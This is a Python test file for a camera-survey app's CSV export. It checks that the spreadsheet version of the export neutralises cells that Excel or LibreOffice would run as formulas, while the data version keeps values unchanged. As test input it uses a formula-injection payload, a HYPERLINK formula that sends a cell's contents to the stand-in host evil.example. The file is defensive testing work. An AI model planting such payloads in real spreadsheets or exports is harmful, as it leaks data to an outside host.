"""The CSV's two forms (server/exports/csv_forms.py): the data file, values as they are, for
csvkit, pandas, QGIS and Python's csv; the spreadsheet file, which Excel and LibreOffice open
right in a French locale, with formulas neutralised."""

import codecs
import csv
import io
import json
import re
import shutil
import subprocess
import xml.etree.ElementTree as ET

import pytest

from server.extensions import db
from server.osm.cli import export_group

BOM = codecs.BOM_UTF8
HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"open")'


@pytest.fixture
def french(group, add_observation):
    """A camera whose values start like formulas: two are data, one is an attack."""
    return add_observation(
        group, -1.5536, 47.2184, operator="-Sécurité privée", model=HYPERLINK,
        note="+33 4 91 00 00 00", manufacturer="Café 🍺",
    )  # fmt: skip


def download(client, group, options=""):
    url = f"/api/v1/walks/{group.walk.id}/export.csv?private=1{options}"
    with client.get(url, headers=group.headers("organiser")) as answer:
        assert answer.status_code == 200
        return answer, answer.data


def spreadsheet_rows(data: bytes) -> list[dict]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"))


def test_the_data_csv_holds_each_value_as_the_geojson_does(client, group, french):
    answer, data = download(client, group)
    url = f"/api/v1/walks/{group.walk.id}/export.geojson?private=1"
    with client.get(url, headers=group.headers("organiser")) as answer_geojson:
        geojson = json.loads(answer_geojson.data)

    assert not data.startswith(BOM)
    assert answer.headers["Content-Disposition"].endswith(f"camwalk-walk-{group.walk.id}.csv")
    (row,) = csv.DictReader(io.StringIO(data.decode("utf-8"), newline=""))
    properties = geojson["features"][0]["properties"]
    for name in ("operator", "model", "note", "manufacturer"):
        assert row[name] == properties[name]
    assert (row["operator"], row["osm:operator"]) == ("-Sécurité privée", "-Sécurité privée")
    assert row["lon"] == "-1.5536000"


def test_the_spreadsheet_csv_has_a_bom_and_semicolons_for_a_french_excel(client, group, french):
    answer, data = download(client, group, "&spreadsheet=1")

    assert data.startswith(BOM)  # without it Excel reads Windows-1252: "CafÃ©"
    assert data[len(BOM) :].startswith(b"lat;lon;id;")
    assert data.count(BOM) == 1
    assert answer.headers["Content-Type"] == "text/csv; charset=utf-8"
    disposition = answer.headers["Content-Disposition"]
    assert disposition.endswith(f"camwalk-walk-{group.walk.id}-spreadsheet.csv")
    (row,) = spreadsheet_rows(data)
    assert row["manufacturer"] == "Café 🍺"
    assert row["direction"] == ""
    assert (row["lat"], row["lon"]) == ("47.2184000", "-1.5536000")  # numbers stay numbers


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_the_spreadsheet_csv_neutralises_cells_a_spreadsheet_would_run_as_formulas(
    client, group, add_observation, start
):
    from server.auth.models import Member

    walker = db.session.query(Member).filter_by(group_id=group.id, pseudonym="mouette").one()
    walker.pseudonym = f"{start}evil"
    attack = f'{start}HYPERLINK("http://evil.example/?"&A1,"open")'
    add_observation(
        group, -1.5536, 47.2184, operator=attack, note=attack, model=attack,
        created_by_id=walker.id,
    )  # fmt: skip

    _, data = download(client, group, "&spreadsheet=1")

    (cells,) = spreadsheet_rows(data)
    attacks = [cell for cell in cells.values() if "HYPERLINK" in cell]
    assert len(attacks) >= 4  # operator, model, note and their OSM tag columns
    assert not [cell for cell in attacks if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    # A text is written in the engine's normal form, leading blanks off: "\t=..." and
    # "\r=..." lose their start (sync/fields.py); the others keep it, behind an apostrophe.
    assert cells["note"] == (attack.strip() if start.isspace() else "'" + attack)
    assert cells["walker"] == f"'{start}evil"


@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
def test_no_cell_of_the_spreadsheet_csv_is_a_formula_however_a_spreadsheet_splits_it(
    client, group, add_observation, start
):
    """A spreadsheet splitting on commas (an English-locale Excel) or tabs does not see the
    file's quotes, and starts a row at each line break: a formula after one of those in a text
    was a cell of its own there, run when the organiser opened the file."""
    attack = f'{start}HYPERLINK("http://evil.example/?"&A1,"open")'
    add_observation(
        group, -1.5536, 47.2184, operator=f"Mairie,{attack}", model=f"X11;{attack}",
        note=f"vue du quai\n{attack}", manufacturer=f"Axis\t{attack}",
    )  # fmt: skip

    _, data = download(client, group, "&spreadsheet=1")

    (cells,) = spreadsheet_rows(data)  # read as it is written: ";" and quotes
    assert cells["operator"] == f"Mairie,'{attack}"
    assert cells["note"] == f"vue du quai\n'{attack}"
    # Each piece any way of splitting could make a cell of, quotes or not.
    pieces = re.split(r"[,;\t\r\n]", data.decode("utf-8-sig"))
    attacks = [piece for piece in pieces if "HYPERLINK" in piece]
    assert len(attacks) == 7  # four texts, and the OSM tags of three (a note has none)
    assert [piece for piece in attacks if piece.startswith(start)] == []


def test_data_that_looks_like_a_formula_is_guarded_in_the_spreadsheet_csv_only(
    client, group, french
):
    _, data = download(client, group)
    _, sheet = download(client, group, "&spreadsheet=1")

    (row,) = csv.DictReader(io.StringIO(data.decode("utf-8"), newline=""))
    (cells,) = spreadsheet_rows(sheet)
    assert (row["operator"], row["note"], row["model"]) == (
        "-Sécurité privée", "+33 4 91 00 00 00", HYPERLINK,
    )  # fmt: skip
    assert (cells["operator"], cells["note"], cells["model"]) == (
        "'-Sécurité privée", "'+33 4 91 00 00 00", "'" + HYPERLINK,
    )  # fmt: skip


TABLE = "urn:oasis:names:tc:opendocument:xmlns:table:1.0"
TEXT = "urn:oasis:names:tc:opendocument:xmlns:text:1.0"


@pytest.mark.skipif(not shutil.which("soffice"), reason="LibreOffice is not installed")
def test_libreoffice_reads_the_spreadsheet_csv_as_text_even_when_it_evaluates_formulas(
    client, group, french, tmp_path
):
    """What a French LibreOffice makes of the file: ';', UTF-8, French locale (1036), and
    "evaluate formulas" ticked, as Excel always does. No cell may be a formula."""
    _, data = download(client, group, "&spreadsheet=1")
    (tmp_path / "cameras.csv").write_bytes(data)
    options = "CSV:59,34,76,1,,1036,false,true,false,false,false,-1,true"
    subprocess.run(
        ["soffice", f"-env:UserInstallation=file://{tmp_path}/profile", "--headless",
         f"--infilter={options}", "--convert-to", "fods", "--outdir", str(tmp_path),
         str(tmp_path / "cameras.csv")],
        check=True, capture_output=True, timeout=120,
    )  # fmt: skip

    header, row = _sheet_rows(tmp_path / "cameras.fods")
    cells = {name: value for (name, _), value in zip(header, row, strict=False)}
    assert not [value for value in cells.values() if value[1]]  # no formula
    assert cells["manufacturer"][0] == "Café 🍺"
    assert cells["operator"][0] == "'-Sécurité privée"
    assert cells["model"][0] == "'" + HYPERLINK
    assert cells["lon"][0] == "-1.5536000"


def _sheet_rows(path) -> list[list[tuple[str, str | None]]]:
    """(text shown, formula or None) of each cell of a flat ODS file, row by row."""
    rows = []
    for line in ET.parse(path).iter(f"{{{TABLE}}}table-row"):
        cells = []
        for cell in line.findall(f"{{{TABLE}}}table-cell"):
            shown = "".join(p.text or "" for p in cell.iter(f"{{{TEXT}}}p"))
            repeated = int(cell.get(f"{{{TABLE}}}number-columns-repeated", "1"))
            cells += [(shown, cell.get(f"{{{TABLE}}}formula"))] * repeated
        rows.append(cells)
    return rows


def test_the_report_downloads_the_spreadsheet_csv_again(client, group, french):
    answer, _ = download(client, group, "&spreadsheet=1")
    report = client.get(
        f"/api/v1/exports/{answer.headers['X-Camwalk-Export-Id']}",
        headers=group.headers("organiser"),
    ).get_json()
    assert report["counts"]["spreadsheet"] is True
    with client.get(report["download_url"], headers=group.headers("organiser")) as again:
        assert again.data.startswith(BOM)


def test_the_command_writes_either_form(app, group, french, tmp_path, client):
    runner = app.test_cli_runner()
    for flags, target in (([], "data.csv"), (["--spreadsheet"], "sheet.csv")):
        result = runner.invoke(
            export_group,
            ["csv", "--walk", str(group.walk.id), "--private", *flags, "-o", tmp_path / target],
        )
        assert result.exit_code == 0, result.output
    assert (tmp_path / "data.csv").read_bytes() == download(client, group)[1]
    assert (tmp_path / "sheet.csv").read_bytes() == download(client, group, "&spreadsheet=1")[1]
